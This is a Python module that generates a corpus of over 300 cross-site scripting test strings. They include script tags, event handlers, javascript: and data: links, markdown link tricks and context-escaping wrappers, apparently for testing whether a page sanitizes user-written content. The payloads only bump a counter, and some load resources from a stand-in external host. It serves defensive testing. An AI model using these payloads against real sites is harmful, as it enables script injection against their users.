"""More than 300 hostile texts, as people try them against pages that show what others wrote."""

from __future__ import annotations

from itertools import product

HIT = "window.hit=(window.hit||0)+1"
ELSEWHERE = "https://elsewhere.example/x"

_TAGS = [
    f"<script>{HIT}</script>",
    f"<ScRiPt>{HIT}</sCrIpT>",
    f"<script src={ELSEWHERE}></script>",
    f"<scr<script>ipt>{HIT}</script>",
    f"<img src=x onerror={HIT}>",
    f"<img src='{ELSEWHERE}.png'>",
    f"<img srcset='{ELSEWHERE}.png 2x'>",
    f"<svg onload={HIT}>",
    f"<svg><script>{HIT}</script></svg>",
    f"<svg><animate onbegin={HIT} attributeName=x dur=1s>",
    f"<math><mtext><img src=x onerror={HIT}></mtext></math>",
    f"<iframe src='javascript:{HIT}'></iframe>",
    f"<iframe src='{ELSEWHERE}'></iframe>",
    f'<iframe srcdoc="<script>parent.{HIT}</script>"></iframe>',
    f"<object data='{ELSEWHERE}'></object>",
    f"<embed src='{ELSEWHERE}'>",
    f"<link rel=stylesheet href='{ELSEWHERE}.css'>",
    f"<link rel=prefetch href='{ELSEWHERE}'>",
    f"<style>@import '{ELSEWHERE}.css';</style>",
    f"<style>body{{background:url({ELSEWHERE})}}</style>",
    f"<div style='background:url({ELSEWHERE})'>x</div>",
    f"<meta http-equiv=refresh content='0;url={ELSEWHERE}'>",
    f"<base href='{ELSEWHERE}/'>",
    f"<form action='{ELSEWHERE}'><input autofocus onfocus={HIT}><button>x</button></form>",
    f"<video src='{ELSEWHERE}' autoplay onerror={HIT}></video>",
    f"<audio src=x onerror={HIT} autoplay>",
    f"<video poster='{ELSEWHERE}.png'></video>",
    f"<body onload={HIT}>",
    f"<details open ontoggle={HIT}>x</details>",
    f"<input autofocus onfocus={HIT}>",
    f"<select autofocus onfocus={HIT}></select>",
    f"<marquee onstart={HIT}>x</marquee>",
    f"<a href='javascript:{HIT}'>x</a>",
    f"<template><script>{HIT}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={HIT}>'>",
    f"<textarea><img src=x onerror={HIT}></textarea>",
    f"<title><img src=x onerror={HIT}></title>",
    f"<xmp><script>{HIT}</script></xmp>",
    f"<table background='{ELSEWHERE}.png'><tr><td>x</table>",
    f"<button formaction='javascript:{HIT}'>x</button>",
    f"<portal src='{ELSEWHERE}'></portal>",
    "<form id=main><input name=querySelector></form>",
    "<img name=getElementById id=document>",
]
_MARKDOWN = [
    f"[x](javascript:{HIT})",
    f"[x](JaVaScRiPt:{HIT})",
    f"[x](java\tscript:{HIT})",
    f"[x](&#106;avascript:{HIT})",
    f"[x](javascript&colon;{HIT})",
    f"[x](data:text/html,<script>{HIT}</script>)",
    f"[x](vbscript:{HIT})",
    f"[x](<javascript:{HIT}>)",
    f"[x]( javascript:{HIT} 'title')",
    f"![x](javascript:{HIT})",
    f"![x]({ELSEWHERE}.png)",
    f"![x]({ELSEWHERE}.png 'onerror={HIT}')",
    f'![x" onerror="{HIT}](x.png)',
    f"![x](data:image/svg+xml,<svg onload={HIT}>)",
    f"<javascript:{HIT}>",
    f"[x]: javascript:{HIT}\n\n[x]",
    f"[a]: {ELSEWHERE}.png\n\n![a]",
    f'[x](https://a.example "t\\"onmouseover={HIT}")',
    f"[x](https://a.example/'onmouseover={HIT}//)",
    f"```<script>{HIT}</script>\nx\n```",
    f'```"><img src=x onerror={HIT}>\nx\n```',
    f"`<img src=x onerror={HIT}>`",
    f"\\(<img src=x onerror={HIT}>\\)",
    f"\\[<script>{HIT}</script>\\]",
    f"$$<img src=x onerror={HIT}>$$",
    f"| <img src=x onerror={HIT}> |\n|---|\n| <script>{HIT}</script> |",
    f"# <img src=x onerror={HIT}>",
    f"> <svg onload={HIT}>",
    f"1. <img src=x onerror={HIT}>",
    f'https://a.example/"onmouseover={HIT}//',
    f"javascript:{HIT}",
    "//elsewhere.example/x <img src=//elsewhere.example/y>",
]
_WRAPS = ["{}", "text before {} and after", '">{}', "'>{}", "--> {}", "</title></style></textarea>{}", "\n\n{}\n\n"]

PAYLOADS = sorted(
    {wrap.format(text) for wrap, text in product(_WRAPS[:6], _TAGS)}
    | {wrap.format(text) for wrap, text in product(_WRAPS[:1] + _WRAPS[6:], _MARKDOWN)}
)
